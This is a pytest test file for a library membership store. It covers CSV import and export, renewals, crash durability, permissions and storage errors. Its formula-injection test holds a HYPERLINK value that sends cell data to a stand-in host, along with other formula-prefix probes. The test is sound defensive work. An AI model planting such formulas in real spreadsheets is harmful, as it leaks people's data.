"""The local membership store: import/export, changes, and durability across a kill -9."""

from __future__ import annotations

import csv
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
import io
import os
from pathlib import Path
import signal
import sqlite3
import subprocess
import sys
import textwrap

import pytest

from custom_components.smart_library.engine.database import StorageError, storage_error
from custom_components.smart_library.engine.members.membership import (
    Booking,
    Member,
    MemberError,
    Reason,
    Restriction,
    StaffCard,
    card_ref,
    is_card_ref,
    parse_windows,
)
from custom_components.smart_library.engine.members.pins import hash_pin, new_pepper
from custom_components.smart_library.engine.members.store import MembershipStore

TODAY = date(2026, 11, 24)
ROOT = Path(__file__).resolve().parents[2]

LMS_EXPORT = """\ufeffBarcode,Patron Name,Date of Birth,Expiry Date,Induction,Status,Review Date
20000001,Ann Reader,14/02/1971,31/01/2028,2026-05-01,,
20000002,Bo Young,2011-03-03,2027-12-31,,,
20000003,,1999-13-01,2028-01-01,,,
,No Card,1980-01-01,2028-01-01,,,
20000004,Cy Later,2030-01-01,2028-01-01,,,
20000005,Di Barred,1980-01-01,2028-01-01,2025-01-01,barred,2027-01-31
20000001,Ann Again,1971-02-14,2028-01-31,,,
20000006,Ed Odd,1980-01-01,2028-01-01,,on holiday,
20000007,Fay Plain,1980-01-01,,,,
20000008,Gus Suspended,1980-01-01,2028-01-01,,Suspended,
20000009,Hal Active,1980-01-01,2028-01-01,2026-02-02,Active,
20000010,Ida Soon,1980-01-01,2028-01-01,2026-12-01,,
"""


def test_import_takes_good_rows_and_reports_the_rest(tmp_path: Path) -> None:
    """Rows are taken or refused with a reason; a refused row's card is shown masked.

    The checks are the staff actions' own: a bar needs a review date, an induction cannot be in
    the future. The statuses library systems write (Active, Suspended ...) are understood.
    """
    store = MembershipStore(tmp_path / "m.db")
    report = store.import_csv(LMS_EXPORT, TODAY).as_dict()
    assert (report["taken"], report["added"], report["updated"]) == (4, 4, 0)
    assert [(r["row"], r["reason"]) for r in report["refused"]] == [
        (4, "invalid_birth_date"),
        (5, "invalid_card"),
        (6, "birth_date_in_future"),
        (8, "duplicate_card"),
        (9, "invalid_restriction"),
        (10, "missing_card_expiry"),
        (11, "missing_review_date"),
        (13, "induction_in_future"),
    ]
    assert report["refused"][0]["card"] == "••••0003"
    ann = store.require("20000001")
    assert (ann.name, ann.birth_date, ann.induction_date) == (
        "Ann Reader",
        date(1971, 2, 14),
        date(2026, 5, 1),
    )
    assert store.require("20000005").restriction is Restriction.BARRED
    assert store.require("20000005").review_date == date(2027, 1, 31)
    assert store.require("20000009").restriction is Restriction.NONE

    # A second import updates, keeps the PIN, and adds nothing twice.
    pepper = new_pepper()
    store.change("20000001", lambda m: replace(m, pin_hash=hash_pin("1234", pepper)))
    report = store.import_csv(
        "card,name,birth_date,card_expiry\n20000001,Ann R,1971-02-14,2029-01-31\n",
        TODAY,
    ).as_dict()
    assert (report["added"], report["updated"]) == (0, 1)
    ann = store.require("20000001")
    assert ann.card_expiry == date(2029, 1, 31) and ann.pin_hash is not None
    assert ann.induction_date == date(2026, 5, 1)  # not in the file: kept
    assert (
        ann.renewed_on == TODAY
    )  # a later expiry is a renewal: a new induction is due
    assert store.count() == 4


def test_import_without_needed_columns_writes_nothing(tmp_path: Path) -> None:
    """A file without the card, birth date or expiry column is refused as a whole."""
    store = MembershipStore(tmp_path / "m.db")
    with pytest.raises(MemberError, match="import_no_card_column"):
        store.import_csv("name,birth_date\nA,1980-01-01\n", TODAY)
    with pytest.raises(MemberError, match="import_missing_column"):
        store.import_csv("card,birth_date\n12345678,1980-01-01\n", TODAY)
    assert store.count() == 0


def test_an_induction_version_that_is_no_number_refuses_its_row(tmp_path: Path) -> None:
    """'²' (a digit to str.isdigit, not to int), 0 or 5,000 digits: that row's error only."""
    store = MembershipStore(tmp_path / "m.db")
    report = store.import_csv(
        "card,name,birth_date,card_expiry,induction_version\n"
        "30000001,A,1980-01-01,2028-01-01,²\n"
        "30000002,B,1980-01-01,2028-01-01,0\n"
        "30000003,C,1980-01-01,2028-01-01,2\n"
        f"30000004,D,1980-01-01,2028-01-01,{'9' * 5000}\n",
        TODAY,
    ).as_dict()
    assert report["taken"] == 1
    assert [r["reason"] for r in report["refused"]] == ["invalid_induction_version"] * 3
    assert store.require("30000003").induction_version == 2


def test_export_round_trip_never_has_pins(tmp_path: Path) -> None:
    """An export re-imports to the same members and carries no PIN or hash."""
    store = MembershipStore(tmp_path / "m.db")
    pepper = new_pepper()
    store.add(
        Member(
            "30000001",
            date(1980, 1, 1),
            date(2028, 1, 1),
            "Gil",
            date(2026, 1, 1),
            pin_hash=hash_pin("86420", pepper),
        ),
        TODAY,
    )
    text = store.export_csv()
    assert "scrypt" not in text and "pin" not in text.lower()
    other = MembershipStore(tmp_path / "n.db")
    assert other.import_csv(text, TODAY).taken == 1
    copy = other.require("30000001")
    assert copy.pin_hash is None
    assert copy.name == "Gil" and copy.induction_date == date(2026, 1, 1)


def test_an_import_that_renews_a_card_asks_for_a_new_induction(tmp_path: Path) -> None:
    """A file that moves a card's expiry later is a renewal: the old induction stops counting."""
    store = MembershipStore(tmp_path / "m.db")
    store.import_csv(
        "barcode,dob,expiry,inducted\n30000009,1980-01-01,2026-10-31,2025-01-10\n",
        TODAY,
    )
    assert store.require("30000009").eligibility(TODAY) is Reason.CARD_EXPIRED

    renewal = "barcode,dob,expiry,inducted\n30000009,1980-01-01,2028-10-31,2025-01-10\n"
    assert store.import_csv(renewal, TODAY).updated == 1
    member = store.require("30000009")
    assert member.renewed_on == TODAY
    assert member.eligibility(TODAY) is Reason.INDUCTION_OUTDATED
    # The same file a week later is no second renewal: still waiting for the induction.
    store.import_csv(renewal, date(2026, 12, 1))
    assert store.require("30000009").renewed_on == TODAY

    inducted = (
        "barcode,dob,expiry,inducted\n30000009,1980-01-01,2028-10-31,2026-11-24\n"
    )
    store.import_csv(inducted, TODAY)
    assert store.require("30000009").eligibility(TODAY) is Reason.GRANTED


def test_add_change_remove(tmp_path: Path) -> None:
    """A taken card, an unknown card and impossible dates are refused with codes."""
    store = MembershipStore(tmp_path / "m.db")
    ann = Member("40000001", date(1980, 1, 1), date(2028, 1, 1))
    store.add(ann, TODAY)
    with pytest.raises(MemberError, match="member_exists"):
        store.add(ann, TODAY)
    with pytest.raises(MemberError, match="birth_date_in_future"):
        store.add(Member("40000002", date(2027, 1, 1), date(2028, 1, 1)), TODAY)
    with pytest.raises(MemberError, match="unknown_member") as err:
        store.require("49999999")
    assert "49999999" not in str(err.value.placeholders)
    with pytest.raises(MemberError, match="invalid_card"):
        store.add(Member("12", date(1980, 1, 1), date(2028, 1, 1)), TODAY)
    assert store.remove("40000001") and not store.remove("40000001")


KILLED_WRITER = textwrap.dedent(
    """
    import sys, time
    from datetime import date
    sys.path.insert(0, {root!r})
    from custom_components.smart_library.engine.members.membership import Member, Restriction
    from custom_components.smart_library.engine.members.store import MembershipStore
    store = MembershipStore({db!r})
    store.add(Member("50000001", date(1980, 1, 1), date(2028, 1, 1)), date(2026, 11, 24))
    store.change("50000001", lambda m: m.__class__(**{{**m.__dict__, "restriction": Restriction.BARRED}}))
    print("acknowledged", flush=True)
    time.sleep(60)
    """
)


def test_an_acknowledged_change_survives_kill_9(tmp_path: Path) -> None:
    """A member barred and acknowledged is still barred after the process is killed outright."""
    db = tmp_path / "m.db"
    process = subprocess.Popen(
        [sys.executable, "-c", KILLED_WRITER.format(root=str(ROOT), db=str(db))],
        stdout=subprocess.PIPE,
        text=True,
    )
    assert process.stdout is not None
    assert process.stdout.readline().strip() == "acknowledged"
    os.kill(process.pid, signal.SIGKILL)
    assert process.wait(timeout=10) == -signal.SIGKILL
    store = MembershipStore(db)
    assert store.require("50000001").restriction is Restriction.BARRED


def test_the_store_is_private_to_its_user(tmp_path: Path) -> None:
    """The database, its WAL and its folder can be read by Home Assistant's user alone."""
    folder = tmp_path / "smart_library"
    store = MembershipStore(folder / "m.db")
    store.add(Member("60000001", date(1980, 1, 1), date(2028, 1, 1)), TODAY)
    modes = {
        p.name: p.stat().st_mode & 0o777
        for p in (folder, *folder.iterdir())
        if p.name in {"smart_library", "m.db", "m.db-wal", "m.db-shm"}
    }
    assert modes == {
        "smart_library": 0o700,
        "m.db": 0o600,
        "m.db-wal": 0o600,
        "m.db-shm": 0o600,
    }
    store.close()
    # A store made world-readable before (0644 was the default) is made private on opening.
    (folder / "m.db").chmod(0o644)
    folder.chmod(0o755)
    MembershipStore(folder / "m.db").close()
    assert (folder / "m.db").stat().st_mode & 0o777 == 0o600
    assert folder.stat().st_mode & 0o777 == 0o700


FORMULAS = {
    "60000011": '=HYPERLINK("http://x.example/?"&A1,"Click")',
    "60000012": "+44 116 000 0000",
    "60000013": "-2+3",
    "60000014": "@SUM(A1:A9)",
    "60000015": "\t=1+1",
    "60000016": "\r=1+1",
    "60000017": "'=already quoted",
    "60000018": "O'Brien",
}


def test_the_export_is_safe_in_a_spreadsheet_and_reads_back_the_same(
    tmp_path: Path,
) -> None:
    """No cell of an export starts a formula; importing the export gives the same names."""
    store = MembershipStore(tmp_path / "m.db")
    for card, name in FORMULAS.items():
        store.add(Member(card, date(1980, 1, 1), date(2028, 1, 1), name), TODAY)
    text = store.export_csv()
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=HYPERLINK" in text and "O'Brien" in text
    other = MembershipStore(tmp_path / "n.db")
    report = other.import_csv(text, TODAY)
    assert (report.taken, report.refused) == (len(FORMULAS), [])
    assert {m.card: m.name for m in other.members()} == FORMULAS
    assert other.export_csv() == text


def test_one_card_one_holder(tmp_path: Path) -> None:
    """A member's number cannot become a staff card's, nor a staff card's a member's."""
    store = MembershipStore(tmp_path / "m.db")
    staff = StaffCard("60000021", "Cleaner", "cleaner", parse_windows("06:00-08:00"))
    store.save_staff(staff)
    with pytest.raises(MemberError, match="card_is_staff") as err:
        store.add(Member("60000021", date(1980, 1, 1), date(2028, 1, 1)), TODAY)
    assert "60000021" not in str(err.value.placeholders)
    report = store.import_csv(
        "card,birth_date,card_expiry\n"
        "60000021,1980-01-01,2028-01-01\n"
        "60000022,1980-01-01,2028-01-01\n",
        TODAY,
    )
    assert report.taken == 1
    assert report.refused == [{"row": 2, "card": "••••0021", "reason": "card_is_staff"}]
    assert store.member("60000021") is None
    with pytest.raises(MemberError, match="card_is_a_member"):
        store.save_staff(replace(staff, card="60000022"))
    assert store.staff("60000022") is None
    store.save_staff(replace(staff, name="Morning cleaner"))  # the holder may change it


def test_a_file_that_is_not_csv_changes_nothing(tmp_path: Path) -> None:
    """A field over the csv module's limit (131,072) is a translated refusal, not a crash."""
    store = MembershipStore(tmp_path / "m.db")
    store.add(Member("60000031", date(1980, 1, 1), date(2028, 1, 1), "Kept"), TODAY)
    before = store.export_csv()
    huge = "x" * 131_073
    text = (
        "card,name,birth_date,card_expiry\n"
        "60000032,Fine,1980-01-01,2028-01-01\n"
        f"60000033,{huge},1980-01-01,2028-01-01\n"
    )
    with pytest.raises(MemberError, match="import_field_too_long") as err:
        store.import_csv(text, TODAY)
    assert err.value.placeholders == {"line": "3"}
    assert store.export_csv() == before


def test_an_unstorable_name_is_a_refused_row(tmp_path: Path) -> None:
    """A lone surrogate in a name refuses that row only; the other rows are taken."""
    store = MembershipStore(tmp_path / "m.db")
    report = store.import_csv(
        "card,name,birth_date,card_expiry\n"
        "60000041,Bad \ud800,1980-01-01,2028-01-01\n"
        "60000042,Good,1980-01-01,2028-01-01\n",
        TODAY,
    )
    assert report.taken == 1
    assert report.refused == [{"row": 2, "card": "••••0041", "reason": "invalid_text"}]
    with pytest.raises(MemberError, match="invalid_text"):
        store.change("60000042", lambda m: replace(m, name="\udfff"))
    assert store.require("60000042").name == "Good"


# -- issue 19, 5: storage errors say what happened ----------------------------------------------


def test_a_full_disk_says_so_and_leaves_the_store_usable(tmp_path: Path) -> None:
    """SQLITE_FULL (the file may not grow) is `storage_full`, its cause kept.

    Before, SQLite had already ended the transaction and the ROLLBACK that followed raised
    "cannot rollback - no transaction is active", hiding the full disk. After the error the
    store reads and writes what still fits.
    """
    store = MembershipStore(tmp_path / "m.db")
    store.add(Member("20000001", date(1980, 1, 1), date(2028, 1, 1)), TODAY)
    (pages,) = store._db.execute("PRAGMA page_count").fetchone()
    store._db.execute(f"PRAGMA max_page_count = {pages}")  # the disk is full
    start = datetime(2026, 11, 25, 10, 0, tzinfo=UTC)
    big = Booking("b1", "oadby", "room", "20000001", start, start + timedelta(hours=1))
    with pytest.raises(StorageError) as err:
        store.add_booking(replace(big, title="x" * 100_000))
    assert err.value.code == "storage_full"
    assert isinstance(err.value.__cause__, sqlite3.OperationalError)
    assert "database or disk is full" in str(err.value.__cause__)
    assert "full" in str(err.value)
    assert not store._db.in_transaction
    assert store.member("20000001") is not None
    store.add_booking(big)  # a small one still fits
    assert len(store.bookings("oadby")) == 1


@pytest.mark.parametrize(
    ("message", "code"),
    [
        ("database or disk is full", "storage_full"),
        ("attempt to write a readonly database", "storage_read_only"),
        ("file is not a database", "storage_corrupt"),
        ("database disk image is malformed", "storage_corrupt"),
        ("disk I/O error", "storage_unavailable"),
        ("unable to open database file", "storage_unavailable"),
    ],
)
def test_sqlite_errors_map_to_codes(message: str, code: str) -> None:
    """By SQLite's result code where it has one, else by its message; the cause is kept."""
    cause = sqlite3.OperationalError(message)
    error = storage_error(cause)
    assert error.code == code and error.__cause__ is cause


def test_read_only_corrupt_and_closed_stores_say_so(tmp_path: Path) -> None:
    """A write to a read-only store, a file that is no database, a store closed under us."""
    store = MembershipStore(tmp_path / "m.db")
    store._db.execute("PRAGMA query_only = ON")  # as after a remount read-only
    with pytest.raises(StorageError) as err:
        store.add(Member("20000001", date(1980, 1, 1), date(2028, 1, 1)), TODAY)
    assert err.value.code == "storage_read_only"
    assert store.count() == 0  # reads still work
    store.close()
    with pytest.raises(StorageError) as err:
        store.count()
    assert err.value.code == "storage_unavailable"
    garbage = tmp_path / "garbage.db"
    garbage.write_bytes(b"not a database at all" * 400)
    with pytest.raises(StorageError) as err:
        MembershipStore(garbage)
    assert err.value.code == "storage_corrupt"


def test_members_are_found_by_the_end_of_their_card_or_part_of_their_name(
    tmp_path: Path,
) -> None:
    """The panel's search: the digits a masked card shows, or any part of a name; capped."""
    store = MembershipStore(tmp_path / "find.db")
    for n, name in enumerate(("Ann Smith", "Bob Smithers", "Cy 50%_off", "Di Jones")):
        store.add(
            Member(
                card=f"2123400000{n:04d}",
                birth_date=date(1980, 1, 1),
                card_expiry=date(2030, 1, 1),
                name=name,
            ),
            TODAY,
        )

    def cards(found: tuple[list[Member], int]) -> list[str]:
        return [m.card for m in found[0]]

    assert cards(store.find(card="0001")) == ["21234000000001"]
    assert cards(store.find(card="21234000000003")) == ["21234000000003"]
    assert cards(store.find(name="smith")) == ["21234000000000", "21234000000001"]
    assert cards(store.find(name="%")) == ["21234000000002"]  # no wildcard
    assert cards(store.find(name="_")) == ["21234000000002"]
    assert store.find(name="smith", card="0001")[1] == 1
    found, total = store.find(limit=2)
    assert (len(found), total) == (2, 4)
    assert store.find(card="9999") == ([], 0)
    with pytest.raises(MemberError):
        store.find(card="12%")
    store.close()


def test_a_card_reference_names_its_card_only_with_the_pepper(tmp_path: Path) -> None:
    """A reference finds its member's or staff card's number; another pepper's finds nothing."""
    store = MembershipStore(tmp_path / "refs.db")
    pepper, other = new_pepper(), new_pepper()
    store.add(
        Member(
            card="21234000000001",
            birth_date=date(1980, 1, 1),
            card_expiry=date(2030, 1, 1),
        ),
        TODAY,
    )
    store.save_staff(
        StaffCard(
            card="CLEAN01",
            name="Cleaner",
            role="cleaner",
            windows=parse_windows("06:00-08:00"),
        )
    )
    ref = card_ref("21234000000001", pepper)
    assert is_card_ref(ref) and not is_card_ref("21234000000001")
    assert "21234000000001" not in ref and ref != card_ref("21234000000001", other)
    assert store.card_for_ref(ref, pepper) == "21234000000001"
    assert store.card_for_ref(card_ref("clean01", pepper), pepper) == "CLEAN01"
    assert store.card_for_ref(ref, other) is None
    assert store.card_for_ref(card_ref("21234000000002", pepper), pepper) is None
    assert [c.name for c in store.staff_cards()] == ["Cleaner"]
    store.close()
